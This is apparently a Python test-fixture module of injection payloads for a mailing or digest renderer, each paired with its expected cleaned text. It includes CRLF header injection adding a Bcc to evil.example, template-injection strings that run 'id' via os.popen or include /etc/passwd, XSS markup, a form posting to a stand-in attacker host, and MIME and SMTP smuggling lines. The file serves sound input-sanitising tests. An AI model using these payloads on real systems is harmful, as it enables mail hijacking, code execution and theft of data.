"""What people put into titles and names to get into headers, templates, pages and other people's mail.

Each payload goes with the words that a reader should see of it: the same, but for what `clean_line` documents
(controls, bidi overrides, zero-width characters and noncharacters gone, line ends and blanks folded to one).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from digest.model.rendition import Hole

_HEADERS = (
    "Bcc: all@evil.example",
    "Subject: Other",
    "Content-Type: text/html",
    "X-Injected: yes",
    "From: a@evil.example",
)
_ENDS = {"\r\n": " ", "\n": " ", "\r": " ", "\r\n\t": " ", "\n\n": " ", "\x0b": " ", "\x0c": " ", "\x85": " "}
_ODD_ENDS = {"\u2028": " ", "\u2029": " ", "\0\r\n": " "}
_LITERAL_ENDS = ("%0d%0a", "\\r\\n", "%250D%250A", "=0D=0A", "\\u000a")
_ENCODED = (
    "=?UTF-8?Q?=0D=0ABcc:_x@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "=?utf-7?Q?+AA0ACg-Bcc:_x?=",
    "=?utf-16?B?DQAKAA==?=",
    "=?iso-2022-jp?B?GyRCGyhCDQo=?=",
    "=?UTF-8*en?Q?x?= =?UTF-8?Q?y?=",
    "=?UTF-8?Q?unended",
    "=?=?UTF-8?Q?=3D=3FUTF-8=3FQ=3Fz=3F=3D?=",
    "=?us-ascii?Q?=22?= <x@evil.example>",
)
_TEMPLATES = (
    "{{ 1337*3 }}",
    "{% for i in range(9) %}4011{% endfor %}".replace("4011", "40-11"),
    "{{ config }}{{ self.__dict__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{# a comment #} stays",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ links.unsubscribe }}{% endraw %}",
    "{{ edition.lead.headline }}",
    "${1337*3} #{1337*3} <%= 1337*3 %> [[1337*3]] *{1337*3}",
    "%(to)s %s %n {0} {links[unsubscribe]}",
    "{title} {name}",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=a>",
    '"><b onmouseover=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "</title></style></td></table><p>out",
    "<!--[if mso]><p>Outlook</p><![endif]-->",
    "<!-- a comment",
    "--> out",
    "]]> out <![CDATA[ in ]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62; &amp;amp; &nbsp;",
    "<a href='https://evil.example/'>here</a>",
    "<plaintext>",
    "<meta http-equiv=refresh content=0>",
    "<base href=https://evil.example/>",
    "javascript:alert(1)",
    "style=x:expression(alert(1))",
)
_MIME = (
    "--=_0123456789abcdef01234567",
    "--=_0123456789abcdef01234567--",
    "Content-Type: multipart/mixed; boundary=x",
    "From evil@evil.example Mon Nov 23 12:00:00 2026",
    ".",
    "..",
    ". QUIT",
    "begin 644 evil.exe",
    "=00=0D=0A.=0D=0A",
    "=3D= =",
)
_NAMES = (
    '"Quoted" \\ back',
    "a, b; c: d <x@evil.example>",
    "(comment (nested",
    "x@evil.example",
    "@",
    ",",
    ';:,<>()[]\\"',
)
_HOLES = (*Hole, f"{Hole.UNSUBSCRIBE}x", "https://hole.invalid/")


@dataclass(frozen=True, slots=True)
class Payload:
    """What is put in, and what is shown of it; `shown` is None where a part of our own stands for it."""

    raw: str
    shown: str | None


_UNSEEN = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c\u200b\u2060"
    "\ufeff\ufffe\uffff\U0001fffe\U000e0001\U000e0042"
)


def payloads() -> tuple[Payload, ...]:
    """All of them, each with words of its own at both ends, so that it can be told from the others."""
    found = []
    for number, (raw, shown) in enumerate(_bare()):
        begin, end = f"Za{number:03}", f"Zo{number:03}"
        found.append(Payload(f"{begin} {raw} {end}", f"{begin} {shown} {end}" if shown is not None else None))
    return tuple(found)


def _bare() -> Iterator[tuple[str, str | None]]:
    for end, shown in (*_ENDS.items(), *_ODD_ENDS.items()):
        for header in _HEADERS:
            yield f"x{end}{header}", f"x{shown}{header}"
    for end in _LITERAL_ENDS:
        yield f"x{end}{_HEADERS[0]}", f"x{end}{_HEADERS[0]}"
    for words in (_ENCODED, _TEMPLATES, _MARKUP, _MIME, _NAMES):
        for text in words:
            yield text, text
    for control in (*range(0x20), *range(0x7F, 0xA0)):
        sign = chr(control)
        shown = " " if sign in "\t\n\r\x0b\x0c\x85" else ""
        yield f"in{sign}side", f"in{shown}side"
    for sign in _UNSEEN:
        yield f"in{sign}side", "inside"
    for hole in _HOLES:
        yield str(hole), None
